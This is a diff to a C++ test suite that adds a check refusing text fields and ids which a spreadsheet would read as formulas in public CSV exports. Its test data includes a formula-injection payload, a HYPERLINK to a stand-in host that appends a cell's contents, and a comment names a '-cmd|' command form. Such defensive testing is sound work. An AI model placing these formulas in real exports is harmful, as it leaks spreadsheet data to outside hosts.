@@ -1192,6 +1192,49 @@ TEST_F(FundRules, ControlCharactersOtherThanNewlineAndTabAreRefusedInEveryText) 
   Ok("xt-audit", f);
 }
 
+// The public CSV files carry names, references and ids as they are signed; a spreadsheet reads
+// a cell that begins with =, +, -, @ or a tab as a formula (=HYPERLINK(...), -cmd|...).
+TEST_F(FundRules, TextsAndIdsThatASpreadsheetWouldReadAsAFormulaAreRefused) {
+  FundedAndApproved(1000);
+  int n = 0;
+  for (const std::string start : {"=", "+", "-", "@", "\t"}) {
+    const std::string id = "c" + std::to_string(n++);
+    const std::string text = start + "HYPERLINK(\"http://x.example/\"&A1)";
+    json p = ProjectRegistration("p" + id);
+    p["name"] = text;
+    Refused("yh-housing", p, "text_formula_start", "name");
+    json payee = Payee("");
+    payee["name"] = text;
+    Refused("yh-finance", Disbursed("d" + id, "p1", "district", 1, "basic", payee),
+            "text_formula_start", "payee.name");
+    json d = Disbursed("d" + id, "p1", "district", 1);
+    d["invoice_ref"] = text;
+    Refused("yh-finance", d, "text_formula_start", "invoice_ref");
+    json r = Received("r" + id, "yh-finance", "pool", "district", "yh-finance", 1);
+    r["doc_ref"] = text;
+    Refused("yh-finance", r, "text_formula_start", "doc_ref");
+    r = Received("r" + id, "yh-finance", "pool", "district", "yh-finance", 1);
+    r["memo"] = text;
+    Refused("yh-finance", r, "text_formula_start", "memo");
+    json f = FindingEvent("f" + id, "F-" + id, json::array(), "p1");
+    f["text"] = text;
+    Refused("xt-audit", f, "text_formula_start", "text");
+  }
+  // Within a text, and after a space or a full-width sign, they are text.
+  json payee = Payee("");
+  payee["name"] = "湘潭市建设工程有限公司=A1";
+  json d = Disbursed("d1", "p1", "district", 1, "basic", payee);
+  d["contract_ref"] = " =合同-2024-01";
+  d["invoice_ref"] = "＝0012+3";
+  Ok("yh-finance", d);
+  // An id may hold '-' but not begin with it.
+  json p = ProjectRegistration("p3");
+  p["project"] = "-1-2";
+  Refused("yh-housing", p, "bad_id", "project");
+  p["project"] = "p-3";
+  Ok("yh-housing", p);
+}
+
 TEST_F(FundRules, ARecordTimeOutsideTheCenturyIsRefused) {
   L.set_now_ms(4102444800000);  // 2100-01-01
   Refused("yh-finance", Received("r", "yh-finance", "pool", "district", "yh-finance", 1),
